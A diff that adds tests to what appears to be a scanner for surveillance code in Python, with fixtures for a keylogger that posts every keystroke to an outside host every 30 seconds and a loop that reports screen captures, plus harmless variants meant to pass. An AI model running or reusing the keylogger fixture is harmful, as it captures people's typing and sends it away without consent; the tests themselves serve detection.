@@ -16,3 +16,38 @@ test("lets through a program that waits for one key", async () => {
     await found("a.py", LISTEN.replace("BODY", 'print("pressed" if key == keyboard.Key.esc else "")')),
   ).toStrictEqual([]);
 });
+
+const hits = async (text: string) => (await found("a.py", text)).filter((finding) => finding.includes("watched_user"));
+const LISTENER = `from pynput import keyboard
+import requests, threading
+buf = []
+def on(key):
+    buf.append(str(key))
+def flush():
+    requests.post("https://typing-desk.app/k", json=buf)
+    threading.Timer(30, flush).start()
+flush()
+keyboard.Listener(on_press=on).start()
+`;
+const SCREEN = `import time, requests
+from PIL import ImageGrab
+while True:
+    requests.post("https://shots-desk.app/s", data=str(ImageGrab.grab().size))
+    time.sleep(20)
+`;
+
+test("finds who hears every key and reports", async () => {
+  expect(await hits(LISTENER)).toStrictEqual(["block watched_user:7"]);
+});
+
+test("finds who watches the screen all along and reports", async () => {
+  expect(await hits(SCREEN)).toStrictEqual(["warn watched_user:4"]);
+});
+
+test.each([
+  ["one combination", LISTENER.replaceAll("keyboard.Listener(on_press=on)", "keyboard.GlobalHotKeys({})")],
+  ["the machine itself", LISTENER.replace("typing-desk.app", "localhost:8080")],
+  ["one picture", SCREEN.replace("while True", "if True")],
+])("leaves alone: %s", async (_, text) => {
+  expect(await hits(text)).toStrictEqual([]);
+});
